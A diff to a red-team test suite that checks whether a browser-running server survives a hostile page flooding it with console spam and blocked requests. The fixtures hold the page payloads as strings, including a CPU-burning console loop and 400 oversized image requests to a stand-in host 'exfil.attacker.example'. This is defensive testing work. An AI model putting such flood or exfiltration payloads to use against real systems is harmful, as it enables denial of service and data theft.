@@ -16,8 +16,11 @@ const FLOODS = {
   consoleLoop: "const t = Date.now(); while (Date.now() - t < 15000) console.error('spam ' + 'y'.repeat(2000) + Math.random());",
   /** The same loop in a dedicated worker. */
   workerConsoleLoop: "new Worker(URL.createObjectURL(new Blob([\"const t = Date.now(); while (Date.now() - t < 15000) console.error('spam ' + 'y'.repeat(2000) + Math.random());\"])));",
-  /** 400 requests outside the allowlist, each with a 100 KB URL. */
-  blockedRequests: "for (let i = 0; i < 400; i++) { const img = new Image(); img.src = 'http://127.0.0.1:9/' + 'a'.repeat(100000) + '/' + i + '?q=' + i; }",
+  /**
+   * 400 requests outside the allowed origins, each with a 100 KB URL. (Not to port 9 any more: Chromium refuses its
+   * "unsafe" ports itself, before the gateway's egress proxy, so those never reach what reports refusals.)
+   */
+  blockedRequests: "for (let i = 0; i < 400; i++) { const img = new Image(); img.src = 'http://exfil.attacker.example/' + 'a'.repeat(100000) + '/' + i + '?q=' + i; }",
 } as const;
 
 /**
@@ -89,9 +92,15 @@ describe('red team: a page that floods the server with what it collects', functi
     for (const blocked of report.blockedNavigations) expect(blocked.url.length).to.be.at.most(160);
     expect(JSON.stringify(result).length, 'the whole result').to.be.below(200_000);
     const lines = server.logs().slice(logsBefore);
-    expect(lines.filter((l) => l['message'] === 'Blocked request outside the navigation allowlist').length).to.be.within(1, 10);
-    const summary = lines.find((l) => l['message'] === 'Requests were blocked outside the navigation allowlist during the lease');
-    expect(summary?.['blocked'], 'the summary counts every blocked request').to.be.at.least(400);
+    expect(lines.filter((l) => l['message'] === 'Browser egress refused a request of the lease').length).to.be.within(1, 10);
+    // The gateway's egress proxy refuses these below the page, over Chromium's few proxy connections (each 100 KB
+    // request line ends its connection), so the lease may end, closing the page, before all 400 were made; the
+    // summary counts every one that was refused (exactly: test/unit/browsers/blocked-requests.test.ts).
+    const summary = lines.find((l) => l['message'] === 'Browser egress refused more requests of the lease than were logged one by one');
+    const total = summary?.['blocked'] as number | undefined;
+    expect(total, 'the summary counts every blocked request').to.be.a('number');
+    // (The report is a snapshot taken when the page was captured; the total is counted until the lease ends.)
+    expect(total!).to.be.above(summary!['loggedOneByOne'] as number).and.at.least(report.blockedNavigations.length);
     expect(server.stderr().length, 'log bytes').to.be.below(2_000_000);
     expect(canaryLeaks(server.stderr(), canaries)).to.deep.equal([]);
     await assertServerWhole();
